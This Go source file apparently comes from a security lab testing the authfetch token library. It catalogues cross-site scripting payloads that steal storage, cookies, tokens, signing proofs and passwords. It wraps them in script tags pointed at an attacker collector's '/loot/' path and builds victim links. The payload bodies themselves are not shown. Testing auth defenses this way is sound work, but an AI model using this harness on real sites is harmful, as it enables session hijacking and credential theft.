package main

import (
	"fmt"
	"io/fs"
	"net/url"
	"strings"

	pages "github.com/authfetch/authfetch/static/lab"
)

// payload is a script that the attacker puts into the name.
type payload struct {
	ID    string `json:"id"`
	Title string `json:"title"`
	About string `json:"about"`
	// Article is for those that stand in the article, letter by letter.
	Article bool `json:"article"`
	// Early ones run before the page's own scripts: a link that the victim opens.
	// The others run in a page in which the victim works.
	Early  bool   `json:"early"`
	Source string `json:"source"`

	file     string
	preamble string // what stands around it
}

// articleAddress is where the article's attacker listens.
const articleAddress = "http://localhost:8888"

// payloads lists them with their sources, in the order of the table.
func payloads(collector string) ([]payload, error) {
	list := []payload{
		{ID: "local", Title: "read localStorage", Article: true, About: "The article’s one-liner."},
		{ID: "session", Title: "read sessionStorage", Article: true, About: "The same, for sessionStorage."},
		{ID: "cookie", Title: "read document.cookie", Article: true, About: "The article’s second one-liner."},
		{ID: "refresh", Title: "call the refresh endpoint", About: "Asks for a new token, with whatever cookies the browser adds."},
		{ID: "fetch", Title: "change fetch", About: "Looks at what goes through fetch, both ways."},
		{ID: "headers", Title: "change Headers", About: "Looks at what is put into a header, and at what is read from an answer."},
		{ID: "promise", Title: "change Promise", About: "Looks at what every promise comes to."},
		{ID: "memory", Title: "read the module’s memory", About: "WebAssembly.Memory, from whoever hands it out: at the start WebAssembly.instantiate, later TextDecoder, to which Go’s wasm_exec.js shows it."},
		{ID: "reflect", Title: "change Reflect", About: "Go’s wasm_exec.js calls everything through Reflect.apply and Reflect.construct, and looks them up each time."},
		{ID: "realm", Title: "a fresh realm", About: "An iframe has natives that nobody has changed: its fetch asks for a token."},
		{ID: "channel", Title: "listen on the channel", About: "What the tabs tell each other, and what is said when the token changes."},
		{ID: "own", Title: "an authFetch of its own", About: "Script in the page may do what the page does: import authfetch, and ask it for the token."},
		{ID: "act", Title: "act in the page", About: "No token leaves. The script calls the API in the user’s name, and sends away what it says."},
		{ID: "proofs", Title: "sign proofs, take them away", About: "The key in IndexedDB cannot be taken, but it signs for whoever runs in the page."},
		{ID: "hold", Title: "hold a call back, make it elsewhere", Early: true, About: "What the page sends is kept from the server, so that a proof in it is not used up yet."},
		{ID: "key", Title: "have a key made that can be taken", Early: true, About: "Throws the key away and changes WebCrypto, before the page starts: the next key can be taken. The user has to sign in again for it."},
		{ID: "password", Title: "wait for the password", About: "Signs the user out, and reads along when the user signs in again."},
	}
	both := []string{"fetch", "headers", "promise", "memory"}
	var all []payload
	for _, p := range list {
		p.file = p.ID
		for _, id := range both {
			if id == p.ID {
				early := p
				early.ID, early.Early = p.ID+"-early", true
				early.Title += ", before the start"
				p.Title += ", later"
				all = append(all, early)
			}
		}
		all = append(all, p)
	}
	preamble, err := fs.ReadFile(pages.Payloads(), "preamble.js")
	if err != nil {
		return nil, fmt.Errorf("the preamble of payloads: %w", err)
	}
	for i := range all {
		all[i].preamble = string(preamble)
		source, err := fs.ReadFile(pages.Payloads(), all[i].file+".js")
		if err != nil {
			return nil, fmt.Errorf("payload %s: %w", all[i].ID, err)
		}
		all[i].Source = strings.ReplaceAll(strings.TrimSpace(string(source)), articleAddress, collector)
	}
	return all, nil
}

// markup is what stands in the name. The article's payloads are taken as they are;
// the others get a way to send, which cannot be changed under them, and say when
// they are done, so that nobody has to guess.
func (p payload) markup(collector, run string) string {
	if p.Article {
		return "<script>" + p.Source + "</script>"
	}
	around := strings.Replace(p.preamble, "ATTACKER", collector+"/loot/"+run, 1)
	return "<script>" + strings.Replace(around, "PAYLOAD;", p.Source, 1) + "</script>"
}

// address is the link that the victim is given.
func (p payload) address(room *room, collector, run string) string {
	mark := "#"
	if p.Early {
		mark = "?"
	}
	return room.url + mark + "name=" + strings.ReplaceAll(url.QueryEscape(p.markup(collector, run)), "+", "%20")
}
